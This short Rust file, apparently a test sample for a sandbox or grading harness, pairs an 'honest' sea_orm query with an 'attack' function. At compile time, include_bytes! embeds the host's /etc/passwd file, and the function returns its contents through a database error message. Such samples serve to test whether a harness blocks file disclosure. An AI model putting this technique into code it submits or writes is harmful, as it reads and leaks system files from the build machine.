// include_bytes! of a file of the machine.
#![allow(unused, clippy::all)]
use sea_orm::*;

#[allow(dead_code)]
async fn honest(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    let rows = db.query_all_raw(Statement::from_string(DbBackend::Sqlite, "SELECT name FROM users ORDER BY id")).await?;
    rows.iter().map(|r| r.try_get("", "name")).collect()
}

pub const S: &[u8] = include_bytes!("/etc/passwd");
pub async fn attack(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    Err(DbErr::Custom(String::from_utf8_lossy(S).into_owned()))
}
